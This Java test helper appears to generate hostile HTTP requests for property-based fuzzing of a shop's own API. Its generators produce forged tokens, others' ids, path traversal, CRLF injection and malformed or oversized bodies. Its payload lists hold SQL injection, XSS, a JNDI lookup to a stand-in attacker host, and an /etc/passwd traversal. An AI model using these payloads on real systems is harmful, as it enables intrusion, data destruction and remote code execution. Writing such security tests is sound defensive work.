package dev.fashionshop.local;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import io.vertx.core.json.Json;
import io.vertx.core.json.JsonObject;

/**
 * Hostile requests over the shop's whole API (its OpenAPI documents), as jqwik arbitraries: every operation, by
 * every kind of caller (none, the other buyer, the owner, the operator, and tokens that are forged, expired,
 * unsigned, of another issuer or tampered with), with ids that are someone else's, traversals, injections,
 * unicode and control characters, numbers at and beyond their limits; bodies with wrong types, missing and
 * extra fields, broken, deeply nested, oversized or not even text; Idempotency-Keys replayed with other bodies,
 * over-long headers. Some are valid by chance: their answer may be a 2xx.
 */
final class HostileRequests {

    /** A request to send through the gateway; {@code kind} says what is hostile about it, for the report. */
    record Request(String caller, String method, String uri, Map<String, String> headers, byte[] body, String kind) {

        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return "%s %s as %s (%s) %s".formatted(method, uri.length() > 200 ? uri.substring(0, 200) + "…" : uri, caller,
                    kind, text.length() > 200 ? text.substring(0, 200) + "…" : text);
        }
    }

    /** Ids of things that exist: the victim's order and item, and an item the attackers may order legitimately. */
    record Ids(String victimOrder, String victimItem, String orderableItem, String orderableSku) {
    }

    /** Path segments that mean something to a server once decoded or normalised. */
    private static final List<String> RAW_SEGMENTS = List.of("..", "../../q/metrics", "..%2F..%2Fq%2Fhealth",
            "%2e%2e%2fadmin", "%00", "%0d%0aX-Injected:%20yes", ";jsessionid=x", "..;", "%252e%252e", "%c0%ae%c0%ae");
    /** Values every parser meets one day. */
    private static final List<String> ATTACKS = List.of("' OR '1'='1", "1; DROP TABLE orders; --", "\" OR \"\"=\"",
            "<script>alert(1)</script>", "${jndi:ldap://attacker/x}", "{{7*7}}", "#{7*7}", "null", "undefined",
            "-1", "0", "9223372036854775808", "-9223372036854775809", "NaN", "Infinity", "1e309", "0x1F", "\u0000",
            "\u202eevil", "😀", "ü", "\uFEFF", "\\", "/", "a/b", "%s%s%s", "../../etc/passwd", "$where", "{\"$gt\": \"\"}");
    /** Numbers and near-numbers, as JSON text: the limits of int and long, beyond them, and what only looks like one. */
    private static final List<String> NUMBERS = List.of("0", "-1", "1", "2147483647", "2147483648", "-2147483649",
            "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e309", "-0", "0.5", "1E2",
            "123456789012345678901234567890", "\"NaN\"", "\"Infinity\"", "\"12\"", "true", "null", "[]", "{}");
    private static final List<String> ODD_BODIES = List.of("", "null", "[]", "{}", "\"text\"", "123", "{\"a\":", "{]",
            "\uFEFF{}", "{\"lines\": null}", "{\"lines\": [null]}", "{,}", "[1,2,", "{\"a\":1,\"a\":2}", "<xml/>");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/json; charset=utf-16", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "*/*");

    private final List<ApiSurface.Operation> operations;
    private final List<String> callers;
    private final Ids ids;

    HostileRequests(ApiSurface surface, List<String> callers, Ids ids) {
        this.operations = surface.operations();
        this.callers = List.copyOf(callers);
        this.ids = ids;
    }

    /** Requests; a buyer's own stream of order changes, which stays open, is left to RoleMatrixTest. */
    Arbitrary<Request> requests() {
        return Arbitraries.of(operations).flatMap(operation -> caller().flatMap(caller -> request(operation, caller)))
                .filter(request -> !(request.caller().equals("bob") && request.uri().startsWith("/api/my-orders/stream")));
    }

    /** The callers with a valid token come more often, so that more requests get past authentication to their input. */
    private Arbitrary<String> caller() {
        return Arbitraries.frequencyOf(callers.stream()
                .map(caller -> Tuple.of(caller.equals("bob") || caller.equals("owner") ? 5 : 1, Arbitraries.just(caller)))
                .toList());
    }

    /** One time in {@code n}: a switch, drawn evenly (jqwik's integers favour their edges, 0 among them). */
    private static Arbitrary<Boolean> oneIn(int n) {
        return Arbitraries.integers().between(1, n).withoutEdgeCases().map(drawn -> drawn == 1);
    }

    private Arbitrary<Request> request(ApiSurface.Operation operation, String caller) {
        Arbitrary<String> path = pathOf(operation, caller);
        Arbitrary<String> query = queryOf(operation);
        Arbitrary<Map<String, String>> headers = headersOf(operation);
        Arbitrary<Tuple.Tuple2<String, byte[]>> body = bodyOf(operation);
        return Combinators.combine(path, query, headers, body).as((p, q, h, b) -> new Request(caller,
                operation.method(), p + q, h, b.get2(), b.get1()));
    }

    private Arbitrary<String> pathOf(ApiSurface.Operation operation, String caller) {
        Arbitrary<String> path = Arbitraries.just(operation.path());
        for (String parameter : operation.pathParameters()) {
            path = path.flatMap(partial -> segment(caller).map(value -> partial.replace("{" + parameter + "}", value)));
        }
        return path;
    }

    /**
     * An id: one that exists, a random one, or an attack. The owner may accept the victim's order and change her
     * item, so the owner's ids are never the victim's: what the owner may do is RoleMatrixTest's.
     */
    private Arbitrary<String> segment(String caller) {
        List<String> existing = new ArrayList<>(List.of(ids.orderableItem(), ids.orderableSku()));
        if (!caller.equals("owner")) {
            existing.addAll(List.of(ids.victimOrder(), ids.victimItem()));
        }
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(existing)),
                Tuple.of(2, Arbitraries.create(() -> UUID.randomUUID().toString())),
                Tuple.of(4, hostileString().map(HostileRequests::encode)),
                Tuple.of(1, Arbitraries.of(RAW_SEGMENTS)));
    }

    private Arbitrary<String> queryOf(ApiSurface.Operation operation) {
        List<String> names = new ArrayList<>(operation.queryParameters());
        names.add("unexpected");
        Arbitrary<String> query = Arbitraries.just("");
        for (String name : names) {
            Arbitrary<String> value = Arbitraries.oneOf(Arbitraries.of(NUMBERS), hostileString()).map(HostileRequests::encode);
            query = query.flatMap(partial -> oneIn(3)
                    .flatMap(include -> include ? value.map(v -> partial + (partial.isEmpty() ? "?" : "&") + name + "=" + v)
                            : Arbitraries.just(partial)));
        }
        return query;
    }

    private Arbitrary<Map<String, String>> headersOf(ApiSurface.Operation operation) {
        Arbitrary<String> contentType = Arbitraries.frequencyOf(
                Tuple.of(8, Arbitraries.just("application/json")),
                Tuple.of(2, Arbitraries.of(CONTENT_TYPES)),
                Tuple.of(1, Arbitraries.just("")));
        // a few keys shared by all requests, so that keys come back with other bodies
        Arbitrary<String> idempotencyKey = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just("")),
                Tuple.of(4, Arbitraries.of("key-1", "key-2", "key-3", "key-4", "key-5")),
                Tuple.of(1, Arbitraries.just(" ")),
                Tuple.of(1, Arbitraries.strings().withCharRange('!', '~').ofLength(300)),
                Tuple.of(1, Arbitraries.strings().withCharRange('\u00a0', '\u00ff').ofMinLength(1).ofMaxLength(10)));
        Arbitrary<Boolean> oversized = oneIn(100);
        return Combinators.combine(contentType, idempotencyKey, oversized).as((type, key, huge) -> {
            Map<String, String> headers = new LinkedHashMap<>();
            if (!type.isEmpty()) {
                headers.put("Content-Type", type);
            }
            if (!key.isEmpty() && operation.method().equals("POST")) {
                headers.put("Idempotency-Key", key);
            }
            if (huge) {
                headers.put("X-Padding", "p".repeat(17_000));
            }
            return headers;
        });
    }

    private Arbitrary<Tuple.Tuple2<String, byte[]>> bodyOf(ApiSurface.Operation operation) {
        JsonObject schema = operation.body() == null ? new JsonObject().put("type", "object") : operation.body();
        return Arbitraries.frequencyOf(
                Tuple.of(12, json(schema, 0).map(text -> Tuple.of("fields", utf8(text)))),
                Tuple.of(2, json(schema, 0).flatMap(text -> Arbitraries.integers().between(0, Math.max(0, text.length() - 1))
                        .map(cut -> Tuple.of("truncated", utf8(text.substring(0, cut)))))),
                Tuple.of(2, Arbitraries.of(ODD_BODIES).map(text -> Tuple.of("odd", utf8(text)))),
                Tuple.of(1, Arbitraries.integers().between(500, 5_000)
                        .map(depth -> Tuple.of("nested", utf8("[".repeat(depth) + "]".repeat(depth))))),
                Tuple.of(1, Arbitraries.integers().between(65_000, 200_000)
                        .map(size -> Tuple.of("oversized", utf8("{\"shippingAddress\": \"" + "x".repeat(size) + "\"}")))),
                Tuple.of(1, Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(300).map(bytes -> Tuple.of("bytes", bytes))),
                Tuple.of(2, Arbitraries.just(Tuple.of("none", (byte[]) null))));
    }

    /** A JSON text after the schema: each field present or not, plausible or hostile, and fields it does not know. */
    private Arbitrary<String> json(JsonObject schema, int depth) {
        Arbitrary<String> plausible = plausible(schema, depth);
        return Arbitraries.frequencyOf(Tuple.of(3, plausible), Tuple.of(2, hostileValue(depth)));
    }

    private Arbitrary<String> plausible(JsonObject schema, int depth) {
        String type = schema.getString("type", "object");
        return switch (type) {
            case "object" -> object(schema.getJsonObject("properties", new JsonObject()), depth);
            case "array" -> {
                JsonObject items = schema.getJsonObject("items", new JsonObject().put("type", "string"));
                yield Arbitraries.frequencyOf(Tuple.of(5, Arbitraries.integers().between(0, 3)), Tuple.of(1, Arbitraries.of(51, 200)))
                        .flatMap(size -> json(items, depth + 1).list().ofSize(size))
                        .map(elements -> "[" + String.join(",", elements) + "]");
            }
            case "integer", "number" -> Arbitraries.integers().between(0, 5).map(String::valueOf);
            case "boolean" -> Arbitraries.of("true", "false");
            default -> "uuid".equals(schema.getString("format"))
                    ? Arbitraries.of(ids.orderableItem(), ids.victimItem(), ids.victimOrder(), UUID.randomUUID().toString()).map(Json::encode)
                    : Arbitraries.of(ids.orderableSku(), "1 Plain Street", "Linen shirt", "tok_declined", "M", "blue").map(Json::encode);
        };
    }

    private Arbitrary<String> object(JsonObject properties, int depth) {
        Arbitrary<List<String>> fields = Arbitraries.just(List.of());
        for (String name : properties.fieldNames()) {
            Arbitrary<String> field = json(properties.getJsonObject(name), depth + 1).map(value -> Json.encode(name) + ":" + value);
            fields = fields.flatMap(partial -> oneIn(6).flatMap(missing -> missing
                    ? Arbitraries.just(partial)
                    : field.map(f -> append(partial, f))));
        }
        Arbitrary<String> extra = hostileValue(depth + 1).flatMap(value -> hostileString()
                .map(name -> Json.encode(name) + ":" + value));
        return fields.flatMap(partial -> oneIn(5)
                .flatMap(more -> more ? extra.map(e -> append(partial, e)) : Arbitraries.just(partial)))
                .map(all -> "{" + String.join(",", all) + "}");
    }

    /** Any JSON value but the one expected: numbers at the limits, hostile or huge strings, nested things, null. */
    private Arbitrary<String> hostileValue(int depth) {
        List<Tuple.Tuple2<Integer, Arbitrary<String>>> choices = new ArrayList<>(List.of(
                Tuple.of(4, Arbitraries.of(NUMBERS)),
                Tuple.of(4, hostileString().map(Json::encode)),
                Tuple.of(1, Arbitraries.integers().between(1_000, 20_000).map(n -> Json.encode("y".repeat(n))))));
        if (depth < 3) {
            choices.add(Tuple.of(1, hostileValue(depth + 1).list().ofMaxSize(3).map(values -> "[" + String.join(",", values) + "]")));
            choices.add(Tuple.of(1, hostileValue(depth + 1).map(value -> "{\"x\":" + value + "}")));
        }
        return Arbitraries.frequencyOf(choices);
    }

    private static Arbitrary<String> hostileString() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(ATTACKS)),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(30)),
                Tuple.of(1, Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(5)),
                Tuple.of(1, Arbitraries.integers().between(300, 1_500).map("z"::repeat)));
    }

    private static List<String> append(List<String> list, String element) {
        List<String> more = new ArrayList<>(list);
        more.add(element);
        return more;
    }

    /** Percent-encoded for a path or query, spaces included. */
    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
